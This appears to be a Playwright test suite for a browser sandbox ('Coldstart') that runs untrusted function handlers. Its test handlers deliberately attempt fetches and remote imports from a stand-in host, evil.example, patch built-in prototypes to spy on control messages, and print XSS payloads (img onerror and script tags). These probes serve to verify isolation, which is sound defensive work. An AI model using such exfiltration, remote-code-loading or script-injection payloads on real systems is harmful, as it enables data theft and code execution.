/** A link is a stranger's code: what it tries to reach from an execution environment, and what it gets. */

import { expect, test } from '@playwright/test'
import { invoke, openProject, projectOf } from '../coldstart'

test('a handler reaches no network, no storage and no worker', async ({ page }) => {
  const requests: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  await openProject(
    page,
    projectOf(`
      declare const globalThis: Record<string, any>
      const attempt = async (work: () => unknown) => {
        try {
          const never = new Promise((_, refuse) => setTimeout(() => refuse(new Error('no answer')), 100))
          return { got: String(await Promise.race([work(), never])) }
        } catch (error) {
          return { refused: String((error as Error)?.name ?? error) }
        }
      }
      export const handler = async () => ({
        present: ['XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'EventSource', 'WebTransport', 'BroadcastChannel', 'Worker',
          'SharedWorker', 'importScripts', 'indexedDB', 'caches', 'navigator.storage', 'postMessage', 'onmessage', 'close', 'location', 'parent', 'top']
          .filter((name) => name.split('.').reduce((value, key) => value?.[key], globalThis as any) !== undefined),
        fetched: await attempt(() => fetch('https://evil.example/steal')),
        imported: await attempt(() => import(/* @vite-ignore */ ('https://evil.example/' + 'module.js') as string)),
        evaluated: await attempt(() => (0, eval)('import("https://evil.example/eval.js")')),
        constructed: await attempt(() => new (Object.getPrototypeOf(async () => {}).constructor)('return import("https://evil.example/constructed.js")')()),
        listened: await attempt(() => globalThis.addEventListener?.('message', () => {})),
      })`),
  )
  requests.length = 0
  const answer = JSON.parse((await invoke(page)).Payload) as Record<string, { got?: string; refused?: string }> & {
    present: string[]
  }
  expect(answer.present).toEqual([])
  for (const name of ['imported', 'evaluated', 'constructed']) expect(answer[name]).toHaveProperty('refused')
  // Nothing answers for that host here: an answer of the simulated endpoint, or a failed connection.
  expect(answer['fetched']?.got ?? 'refused').not.toContain('stolen')
  expect(requests.filter((url) => url.includes('evil.example'))).toEqual([])
})

test('a handler that patches every prototype it finds gets no message of the control channel', async ({ page }) => {
  await openProject(
    page,
    projectOf(`
      const { apply, defineProperty, getOwnPropertyDescriptor, ownKeys } = Reflect
      const seen: string[] = []
      const types: any[] = [Array, Map, Set, WeakMap, Promise, Function, Object, MessagePort, MessageEvent, EventTarget]
      for (let index = 0; index < types.length; index++) {
        const { name, prototype } = types[index]
        const keys = ownKeys(prototype)
        for (let at = 0; at < keys.length; at++) {
          const key = keys[at]!
          const descriptor = getOwnPropertyDescriptor(prototype, key)!
          const original = descriptor.value
          if (typeof original !== 'function' || key === 'constructor' || !descriptor.configurable) continue
          defineProperty(prototype, key, {
            ...descriptor,
            value: function (this: any) {
              // No iteration and no method: those are patched as well.
              for (let argument = -1; argument < arguments.length; argument++) {
                const value = argument < 0 ? this : arguments[argument]
                if (value && typeof value === 'object' && ('deadline' in value || 'outcome' in value)) {
                  seen[seen.length] = name + '.' + String(key)
                }
              }
              return apply(original, this, arguments)
            },
          })
        }
      }
      export const handler = async () => seen`),
  )
  expect(JSON.parse((await invoke(page)).Payload)).toEqual([])
  expect(JSON.parse((await invoke(page)).Payload)).toEqual([])
})

test('what a handler prints is text in the page, never markup', async ({ page }) => {
  await openProject(
    page,
    projectOf(`export const handler = async () => {
      console.log('<img src=x onerror="document.title=1">')
      throw new Error('<script>document.title = 2</script>')
    }`),
  )
  await invoke(page)
  await expect(page.getByText('<img src=x onerror="document.title=1">').first()).toBeVisible()
  await expect(page).toHaveTitle(/Coldstart/)
})

test('the page survives the death of the sandbox, and goes on', async ({ page }) => {
  await openProject(page, projectOf(`export const handler = async () => 'alive'`))
  const answer = page.evaluate(async () => {
    const result = coldstart.invoke('F')
    // The sandbox is taken away under the invocation, as a browser does with a process that ran out of memory.
    document.querySelector('#sandbox iframe')?.remove()
    return result
  })
  expect(await answer).toMatchObject({
    FunctionError: 'Unhandled',
    Payload: expect.stringContaining('Runtime.OutOfMemory'),
  })
  await expect(page.getByText('Sandbox restarted').first()).toBeVisible({ timeout: 30_000 })
  await expect
    .poll(
      () =>
        page.evaluate(async () => {
          const again = coldstart.invoke('F')
          await coldstart.clock.runUntilIdle()
          return (await again).Payload
        }),
      { timeout: 30_000 },
    )
    .toBe('"alive"')
})
